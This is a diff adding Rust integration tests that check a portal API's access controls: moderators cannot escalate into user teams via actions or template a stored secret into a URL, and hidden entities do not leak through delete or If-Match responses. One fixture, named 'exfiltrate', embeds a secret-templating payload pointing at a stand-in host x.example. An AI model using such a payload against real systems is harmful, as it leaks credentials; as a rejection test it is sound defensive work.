@@ -337,3 +337,68 @@ async fn the_live_stream_carries_only_what_the_member_may_read() {
     }
     assert!(!seen.contains("\"b1\""), "b1's change never reaches ana: {seen}");
 }
+
+#[tokio::test]
+async fn a_moderator_cannot_reach_past_the_blueprint_through_an_action() {
+    let org = org().await;
+    let mo = &org.mo;
+    let into_users = json!({
+        "identifier": "promote-me",
+        "trigger": {"type": "self-service", "operation": "DAY-2", "blueprintIdentifier": "service"},
+        "invocationMethod": {"type": "UPSERT_ENTITY", "blueprintIdentifier": "_user", "mapping": {
+            "identifier": "mo", "team": ["team-a", "team-b"]}}
+    });
+    let refused = org.call(mo, Method::POST, "/api/v1/actions", Some(into_users)).await;
+    assert_eq!(refused.status, StatusCode::FORBIDDEN, "{}", refused.body);
+    assert_eq!(
+        org.app.post("/api/v1/secrets", json!({"name": "PROD_DB", "value": "postgres://s3cret"})).await.status,
+        StatusCode::CREATED
+    );
+    let exfiltrate = json!({
+        "identifier": "exfiltrate",
+        "trigger": {"type": "self-service", "operation": "DAY-2", "blueprintIdentifier": "service"},
+        "invocationMethod": {"type": "UPSERT_ENTITY", "blueprintIdentifier": "service", "mapping": {
+            "identifier": "{{ .entity.identifier }}", "properties": {"repository": "https://x.example/{{ .secrets.PROD_DB }}"}}}
+    });
+    let refused = org.call(mo, Method::POST, "/api/v1/actions", Some(exfiltrate)).await;
+    assert_eq!(refused.status, StatusCode::FORBIDDEN, "reading secrets is for admins: {}", refused.body);
+    let own = json!({
+        "identifier": "scale",
+        "trigger": {"type": "self-service", "operation": "DAY-2", "blueprintIdentifier": "service"},
+        "invocationMethod": {"type": "UPSERT_ENTITY", "blueprintIdentifier": "service", "mapping": {
+            "identifier": "{{ .entity.identifier }}", "properties": {"replicas": 3}}}
+    });
+    assert_eq!(org.call(mo, Method::POST, "/api/v1/actions", Some(own)).await.status, StatusCode::CREATED);
+}
+
+#[tokio::test]
+async fn write_paths_do_not_reveal_hidden_entities() {
+    let org = org().await;
+    let (app, ana) = (&org.app, &org.ana);
+    // b1 (hidden from ana) depends on a1 (hers).
+    let linked = app.patch("/api/v1/blueprints/service/entities/b1", json!({"relations": {"dependsOn": ["a1"]}})).await;
+    assert_eq!(linked.status, StatusCode::OK);
+    let update = json!({"ownedByTeam": true});
+    let grants =
+        json!({"moderators": {"teams": ["team-platform"]}, "read": update, "update": update, "delete": update});
+    assert_eq!(app.put("/api/v1/blueprints/service/permissions", grants).await.status, StatusCode::OK);
+    let refused = org.call(ana, Method::DELETE, "/api/v1/blueprints/service/entities/a1", None).await;
+    assert_eq!(refused.status, StatusCode::CONFLICT, "{}", refused.body);
+    assert!(!refused.body.to_string().contains("b1"), "the hidden dependent is not named: {}", refused.body);
+    let cascade =
+        org.call(ana, Method::DELETE, "/api/v1/blueprints/service/entities/a1?delete_dependents=true", None).await;
+    assert_eq!(cascade.status, StatusCode::FORBIDDEN);
+    assert!(!cascade.body.to_string().contains("b1"), "{}", cascade.body);
+
+    // A stale If-Match on a hidden entity reads like a missing one, not like a version mismatch.
+    let stale = app
+        .client
+        .patch(format!("{}/api/v1/blueprints/service/entities/b1", app.base))
+        .bearer_auth(ana)
+        .header("if-match", "\"0\"")
+        .json(&json!({"properties": {"replicas": 1}}))
+        .send()
+        .await
+        .expect("sent");
+    assert_eq!(stale.status(), StatusCode::NOT_FOUND);
+}
